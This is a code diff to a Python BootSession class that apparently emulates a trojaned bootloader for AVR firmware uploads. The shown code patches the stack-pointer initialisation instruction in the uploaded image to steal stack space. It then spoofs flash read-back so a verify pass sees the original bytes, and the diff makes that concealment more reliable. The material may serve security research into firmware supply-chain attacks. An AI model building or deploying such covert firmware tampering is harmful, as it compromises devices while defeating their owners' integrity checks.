@@ -198,7 +198,9 @@ class BootSession:
     whole 8-byte pattern is resident.  Read-back requests overlapping the
     patched word are reverted on the fly, so a verify pass sees exactly
     the uploaded bytes.  If the immediate cannot take the subtraction the
-    session stays dormant and nothing is patched or spoofed.
+    session stays dormant and nothing is patched or spoofed.  The session
+    patches at most once; ``_patch`` holds the patched word and the two
+    bytes it replaced.
     """
 
     image: FlashImage
@@ -207,6 +209,7 @@ class BootSession:
     load_address: int = 0
     sp_site: SpInitSite | None = None
     _received: _IntervalSet = field(default_factory=_IntervalSet)
+    _patch: tuple[int, bytes] | None = None
 
     @property
     def layout(self) -> MemoryLayout:
@@ -250,11 +253,13 @@ class BootSession:
         for site in avr._sp_init_sites(self.image.data, lo, hi):
             if not self._received.covers(site.offset, site.offset + 8):
                 continue
+            original = self.image.read(site.offset, 2)
             try:
                 self.image = apply_stack_steal(self.image, site, self.steal_n)
             except avr.UnderflowWouldBorrow:
                 return  # dormant: immediate too small to take the theft
             self.sp_site = site
+            self._patch = (self.image.read_word(site.offset), original)
             return
 
     def _handle_read_flash(self, body: bytes) -> bytes:
@@ -265,29 +270,24 @@ class BootSession:
         if start + size > self.layout.flash_size:
             return bytes([CMD_READ_FLASH, STATUS_CMD_FAILED])
         data = bytearray(self.image.read(start, size))
-        if self.trojan_enabled and self.sp_site is not None:
+        if self._patch is not None:
             self._spoof_window(data, start)
         self.load_address = start + size
         return bytes([CMD_READ_FLASH, STATUS_CMD_OK]) + bytes(data) + bytes([STATUS_CMD_OK])
 
     def _spoof_window(self, data: bytearray, start: int):
         """Present the pre-patch bytes wherever the window overlaps the
-        patched instruction word.  If that word was overwritten since the
-        patch (it no longer decodes as the expected load) the read is
-        passed through untouched rather than inventing bytes."""
-        site = self.sp_site
-        word = self.image.read_word(site.offset)
-        if (word & 0xF0F0) != 0xE0C0:  # not an ldi r28 any more
+        patched instruction word.  Once that word was overwritten since the
+        patch (it no longer holds the patched word) the read is passed
+        through untouched rather than inventing bytes."""
+        offset = self.sp_site.offset
+        patched_word, original = self._patch
+        if self.image.read_word(offset) != patched_word:
             return
-        current = ((word >> 4) & 0xF0) | (word & 0x0F)
-        if current + self.steal_n > 0xFF:
-            return
-        original = avr.enc_ldi(28, current + self.steal_n)
-        original_bytes = (original & 0xFF, (original >> 8) & 0xFF)
-        for i, addr in enumerate((site.offset, site.offset + 1)):
-            pos = addr - start
+        for i in (0, 1):
+            pos = offset + i - start
             if 0 <= pos < len(data):
-                data[pos] = original_bytes[i]
+                data[pos] = original[i]
 
     def handle(self, body: bytes) -> bytes:
         if not body:
